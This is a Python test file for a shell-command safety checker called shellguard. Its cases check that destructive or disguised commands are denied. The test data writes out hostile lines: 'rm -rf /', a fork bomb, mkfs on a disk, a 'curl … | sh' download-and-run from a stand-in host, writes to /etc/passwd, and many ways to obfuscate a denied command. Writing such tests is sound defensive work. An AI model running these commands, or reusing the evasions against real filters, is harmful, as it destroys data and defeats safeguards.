"""The stages together: patterns reach every spelling, no input breaks it, and looking matters."""

from __future__ import annotations

import gc
import json
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from shellguard.effects.packs.packs import Packs, packaged
from shellguard.facts.fact import NO_FACTS
from shellguard.judgement import conclude, conclusion, judge, safer
from shellguard.parsing.shell_state import NOTHING_KNOWN, ShellState
from shellguard.policy.decision import Action
from shellguard.settings.model import PolicySettings, Settings
from shellguard.understanding import understand
from shellguard.verdict import Verdict
from shellguard.verdict_json import verdict_object

PLAIN = Settings()
DENYING = Settings(policy=PolicySettings(always_deny=("touch *DENYME*", "> *DENYME*")))


def verdict_on(line: str, cwd: str = "", configured: Settings = PLAIN, **known: str | None) -> Verdict:
    home = "/home/someone"
    return judge(line, shell=ShellState(cwd=cwd, home=home, variables=known), settings=configured)


@pytest.mark.parametrize(
    "line",
    [
        "touch OTHER",
        "echo touch DENYME",
        "echo 'touch DENYME'",
        "grep -r 'touch DENYME' .",
        "git commit -m 'touch DENYME'",
        "cat DENYME",
        "cat < DENYME",
        "# touch DENYME",
        "ls; echo done  # touch DENYME",
        "cat > notes <<'E'\ntouch DENYME\nE",
    ],
)
def test_text_that_only_mentions_a_denied_command_is_not_denied(line: str) -> None:
    assert verdict_on(line, configured=DENYING).decision.action is not Action.DENY


@pytest.mark.parametrize(
    "line",
    [
        "touch DENYME",
        "touch xDENYMEx",
        "touch 'a b DENYME'",
        'touch "DENY"ME',
        "touch DENY\\ME",
        "touch $'DENY\\x4dE'",
        "'touch' DENYME",
        "t\\ouch DENYME",
        "/usr/bin/touch DENYME",
        "touch a b DENYME",
        "touch -a -- DENYME",
        "ls; touch DENYME",
        "ls && touch DENYME || true",
        "(touch DENYME)",
        "{ touch DENYME; }",
        "if true; then touch DENYME; fi",
        "for f in a DENYME; do touch $f; done",
        "while true; do touch DENYME; done",
        "case x in x) touch DENYME;; esac",
        "f() { touch DENYME; }; f",
        "f() { touch DENYME; }",
        "echo $(touch DENYME)",
        "echo `touch DENYME`",
        'echo "a $(touch DENYME) b"',
        "cat <(touch DENYME)",
        "bash -c 'touch DENYME'",
        "sh -c \"bash -c 'touch DENYME'\"",
        "eval touch DENYME",
        "eval 'touch DENYME'",
        "sudo touch DENYME",
        "env A=1 touch DENYME",
        "nohup touch DENYME &",
        "time touch DENYME",
        "timeout 5 touch DENYME",
        "command touch DENYME",
        "exec touch DENYME",
        "xargs touch DENYME",
        "find . -exec touch DENYME {} \\;",
        "ssh host touch DENYME",
        "ssh host 'touch DENYME'",
        "touch {x,DENYME}",
        "D=DENYME; touch $D",
        "! touch DENYME",
        "ls\ntouch DENYME",
        "bash <<< 'touch DENYME'",
        "bash <<E\ntouch DENYME\nE",
        "echo 'touch DENYME' | sh",
        "trap 'touch DENYME' EXIT",
        "> DENYME",
        "echo x >> dir/DENYME",
        "coproc touch DENYME",
    ],
)
def test_a_denied_word_is_found_however_it_is_written(line: str) -> None:
    verdict = verdict_on(line, configured=DENYING)
    assert verdict.decision.action is Action.DENY
    assert verdict.decision.by.startswith("always_deny: ")


def test_a_variable_of_the_shell_counts() -> None:
    assert verdict_on("touch $F", configured=DENYING, F="DENYME").decision.action is Action.DENY
    assert verdict_on("touch $F", configured=DENYING, F="other").decision.action is Action.ALLOW


def test_an_empty_variable_before_a_slash_is_the_end() -> None:
    assert verdict_on('rm -rf "$D/"', "/tmp", D="").decision.action is not Action.ALLOW


@pytest.mark.parametrize(
    "line", ["ls -la", "git status", "echo hello > notes.txt", "cat README", "make test"]
)
def test_ordinary_lines_run(line: str, tmp_path: Path) -> None:
    verdict = verdict_on(line, str(tmp_path))
    assert (verdict.decision.action, verdict.source) == (Action.ALLOW, "static")


@pytest.mark.parametrize("line", ["rm -rf /", "rm -rf ~", ":(){ :|:& };:", "sudo mkfs.ext4 /dev/sda1"])
def test_fatal_lines_do_not_run(line: str, tmp_path: Path) -> None:
    assert verdict_on(line, str(tmp_path)).decision.action is not Action.ALLOW


def test_the_same_line_depends_on_the_folder(tmp_path: Path) -> None:
    work, empty = tmp_path / "work", tmp_path / "empty"
    for folder in (work / "data", empty):
        folder.mkdir(parents=True)
    for number in range(30):
        (work / "data" / f"{number}.txt").write_text("x")
    there, absent = verdict_on("rm -rf data", str(work)), verdict_on("rm -rf data", str(empty))
    assert there.risk.score > absent.risk.score
    assert absent.decision.action is Action.ALLOW


@pytest.mark.parametrize(
    "line", ["mv kept new && rm new", "echo x > kept; rm kept", "ln -s kept new; rm -r new/*"]
)
def test_what_a_line_moves_or_had_before_is_not_its_own(line: str, tmp_path: Path) -> None:
    (tmp_path / "kept").write_text("a year's work\n" * 1000)
    assert verdict_on(line, str(tmp_path)).decision.action is not Action.ALLOW


@pytest.mark.parametrize(
    "line", ["echo x > new; cat new; rm new", "tee new < kept; rm -f new", "cp kept new && wc new && rm new"]
)
def test_what_a_line_has_written_itself_may_go_again(line: str, tmp_path: Path) -> None:
    (tmp_path / "kept").write_text("a year's work\n" * 100)
    assert verdict_on(line, str(tmp_path)).decision.action is Action.ALLOW


def test_without_a_folder_nothing_is_known_to_be_absent() -> None:
    verdict = verdict_on("rm -rf surely-not-there-4711")
    assert not verdict.facts.looked
    assert verdict.decision.action is Action.CONFIRM


@pytest.mark.parametrize("line", ["rm -rf x ; ) (", "if then dd of=/dev/sda", "rm -rf 'x", "shred ((("])
def test_a_destroyer_in_a_line_that_is_not_read_in_full_is_asked_about(line: str) -> None:
    verdict = verdict_on(line, "/")
    assert verdict.script.problems
    assert verdict.decision.action is not Action.ALLOW


@pytest.mark.parametrize(
    "line",
    [
        "echo ; ) (",
        "if then ls",
        "echo --rm a=dd ) (",
        "for i in 1 2; do echo $i; fi",
        "while read x; do echo $x; esac",
        "for i in 1 2; do echo $i\necho x\nesac",
    ],
)
def test_a_broken_line_that_names_none_runs_into_the_shells_own_complaint(line: str) -> None:
    assert verdict_on(line, "/").decision.action is Action.ALLOW


@pytest.mark.parametrize(
    "line",
    [
        "",
        " ",
        "\0",
        "\udcff\udcfe",
        "(" * 10_000,
        "$(" * 3_000,
        "'" * 9,
        "a" * 1_000_000,
        "{a,b}" * 60,
        "`" * 101,
        "<<E " * 500,
        "\n" * 5000,
        "x=" * 20_000,
        "[[ " * 900,
        "\\" * 4001,
        "${" * 2000,
        "\x1b[2J",
    ],
)
def test_no_input_breaks_it(line: str) -> None:
    verdict = verdict_on(line, "/tmp")
    assert not verdict.notes
    json.dumps(verdict_object(verdict))


@given(st.text(alphabet=st.sampled_from("rm-f /$(){}[]<>|&;'\"\\`*?~=\n#!aé\0"), max_size=40))
@settings(max_examples=300, deadline=None)
def test_any_text_gets_a_verdict(line: str) -> None:
    verdict = judge(line, shell=NOTHING_KNOWN, settings=Settings(), look=False)
    assert not verdict.notes
    assert 0 <= verdict.risk.score <= 100


def test_an_alternative_is_lower_and_brings_no_new_effect(tmp_path: Path) -> None:
    verdict = verdict_on("curl http://x.example/i | sh", str(tmp_path))
    assert verdict.safe_alternative is not None
    assert verdict.safe_alternative.risk_level < verdict.risk.score
    other = understand(verdict.safe_alternative.command, NOTHING_KNOWN)
    kinds = {one.kind for one in other.effects if one.base > safer.LIGHT}
    assert kinds <= {one.kind for one in verdict.effects}


def test_an_allowed_line_gets_no_alternative(tmp_path: Path) -> None:
    assert verdict_on("rm -rf absent", str(tmp_path)).safe_alternative is None


def test_memory_of_a_line_is_not_used_for_another_shell() -> None:
    first = understand("rm -rf $D", ShellState(cwd="/a", variables={"D": "x"}))
    assert understand("rm -rf $D", ShellState(cwd="/a", variables={"D": "x"})) is first
    assert understand("rm -rf $D", ShellState(cwd="/b", variables={"D": "x"})) is not first
    assert understand("rm -rf $D", ShellState(cwd="/a", variables={"D": None})) is not first


def test_a_stage_that_breaks_asks(monkeypatch: pytest.MonkeyPatch) -> None:
    def breaks(*_: object) -> None:
        raise ZeroDivisionError

    monkeypatch.setattr(conclusion, "weigh", breaks)
    verdict = verdict_on("ls", "/")
    assert (verdict.decision.action, verdict.source) == (Action.CONFIRM, "fallback")
    assert verdict.notes == {"failed": "risk"}
    denied = verdict_on("touch DENYME", "/", DENYING)
    assert denied.decision.action is Action.DENY


def test_observing_lets_run_and_says_what_it_would_have_done(tmp_path: Path) -> None:
    verdict = verdict_on("rm -rf /", str(tmp_path), Settings(mode="observe"))
    assert verdict.decision.action is Action.ALLOW
    assert verdict.decision.observed is Action.DENY


def test_the_parts_give_the_same_as_the_whole() -> None:
    shell = ShellState()
    whole = judge("git push --force", shell=shell, settings=Settings(), look=False, id="x")
    parts = conclude(understand("git push --force", shell), NO_FACTS, Settings(), shell=shell, id="x")
    assert (whole.decision, whole.risk.score) == (parts.decision, parts.risk.score)


def test_the_names_of_the_json_form_are_stable() -> None:
    shape = verdict_object(verdict_on("sudo rm -rf -- /srv/x", "/"))
    assert set(shape) >= {
        "v", "id", "line", "kind", "decision", "challenge", "risk_level", "level", "confidence", "command",
        "args", "flags", "reasoning", "findings", "effects", "facts", "safe_alternative", "source", "model",
        "elapsed_ms",
    }  # fmt: skip
    assert (shape["command"], shape["flags"], shape["args"]) == ("sudo", ["-rf"], ["rm", "/srv/x"])
    finding = shape["findings"][0]
    assert set(finding) >= {"id", "message", "span", "effect", "targets"}
    assert set(shape["facts"]) >= {"files", "bytes", "recoverable"}


def test_a_pattern_that_decided_is_named_in_the_reasoning() -> None:
    assert "touch *DENYME*" in verdict_object(verdict_on("touch DENYME", configured=DENYING))["reasoning"]


@pytest.mark.parametrize("line", ["mv a/b c", "chmod u+x tool", "cp a b", "chown user file"])
def test_a_relative_name_without_a_folder_is_no_protected_place(line: str) -> None:
    verdict = verdict_on(line)
    assert not any(found.protected for found in verdict.facts.targets.values())
    assert verdict.decision.action is Action.ALLOW


ALLOWING = Settings(
    policy=PolicySettings(deny_from=101, always_allow=("ls *", "echo *", "cat ?", "make test", "f *"))
)


@pytest.mark.parametrize(
    "line",
    [
        "echo $(rm -rf /)",
        "echo `rm -rf /`",
        'echo "${x:-$(rm -rf /)}"',
        "echo $((a[$(rm -rf /)]))",
        "cat $(rm -rf /)",
        "echo 'rm -rf /' | bash",
        "ls; rm -rf /",
        "ls & rm -rf /",
        "ls <(rm -rf /)",
        "ls > >(rm -rf /)",
        "x=$(rm -rf /) ls",
        "LD_PRELOAD=/tmp/x.so ls",
        "ls() { rm -rf /; }; ls",
        "alias ls='rm -rf /'; ls",
        "f() { rm -rf /; }; f",
        "echo x > /etc/passwd",
        "echo x >> ~/.bashrc",
        "make test > /etc/passwd",
        "cat <<E\n$(rm -rf /)\nE",
        "for f in $(rm -rf /); do ls $f; done",
    ],
)
def test_an_allowing_pattern_carries_nothing_else_through(line: str) -> None:
    assert not verdict_on(line, "/tmp", ALLOWING).decision.by.startswith("always_allow")


@pytest.mark.parametrize(
    "line",
    [
        "a=touch; $a DENYME",
        "$(echo touch) DENYME",
        "touch $(printf %s DENYME)",
        "touch ${X:-DENYME}",
        "printf 'touch %s' DENYME | sh",
        "echo dG91Y2ggREVOWU1F | base64 -d | sh",
        "echo DENYME | xargs touch",
        'x=(touch DENYME); "${x[@]}"',
        "source <(echo touch DENYME)",
        "su root -c 'touch DENYME'",
        "busybox touch DENYME",
        "awk 'BEGIN{system(\"touch DENYME\")}'",
        "python3 -c 'import os; os.system(\"touch DENYME\")'",
        "docker exec c sh -c 'touch DENYME'",
        "sudo -u bob -- touch DENYME",
    ],
)
def test_a_denied_word_is_found_behind_other_programs_and_expansions(line: str) -> None:
    assert verdict_on(line, "/tmp", DENYING).decision.action is Action.DENY


def test_packs_that_are_no_longer_in_force_are_let_go() -> None:
    def alive() -> int:
        gc.collect()
        return sum(type(one) is Packs for one in gc.get_objects())

    before = alive()
    for number in range(12):
        understand(f"ls {number}", ShellState(), packs=packaged().and_own({}, str(number)))
    assert alive() <= before + 3
